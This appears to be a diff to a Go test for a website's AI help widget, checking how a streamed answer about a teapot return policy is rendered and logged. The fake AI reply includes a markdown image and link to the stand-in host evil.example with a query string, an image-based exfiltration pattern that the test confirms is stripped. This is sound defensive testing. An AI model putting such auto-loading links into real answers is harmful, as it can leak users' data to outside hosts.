@@ -8,12 +8,12 @@ import (
 	"strings"
 	"sync"
 	"testing"
-	"time"
 )
 
 // M-28 M-33: the way of an answer through the whole program.
 func TestAI_VisitorAsks_ReadsItWhileItIsWrittenAndThenWithItsSources(t *testing.T) {
-	service := newAIServer(t, aiSays(250*time.Millisecond, "Within **30", " days** [1].", " ![](https://evil.example/?q=1)[x](https://evil.example)"))
+	may := make(chan struct{})
+	service := newAIServer(t, aiGoesOn(may, "Within **30", " days or", " days** [1].", " ![](https://evil.example/?q=1)[x](https://evil.example)"))
 	s := newAISite(t, service)
 	visitor, agent := s.visitor(), s.agent("owner")
 	visitor.wonders("How long can I return a teapot?")
@@ -26,9 +26,10 @@ func TestAI_VisitorAsks_ReadsItWhileItIsWrittenAndThenWithItsSources(t *testing.
 	if !strings.HasPrefix(half.Text, "Within") && half.At == 0 {
 		t.Errorf("written: %+v", half)
 	}
-	feed.until("<strong>30 days</strong>")
+	close(may)
+	feed.until(" days</strong>")
 	log := visitor.get("/w/smart/log").body
-	wantsAll(t, log, "<strong>30 days</strong>", "/help/returns", "Ask me anything.")
+	wantsAll(t, log, "<strong>30", " days</strong>", "/help/returns", "Ask me anything.")
 	wantsNone(t, log, "evil.example", "[1]")
 	if got := s.rows("SELECT port, model, tokens_in, tokens_out, question FROM ai_answers"); got != "port=answered model=tiny-1 tokens_in=100 tokens_out=20 question=How long can I return a teapot? \n" {
 		t.Errorf("kept: %s", got)
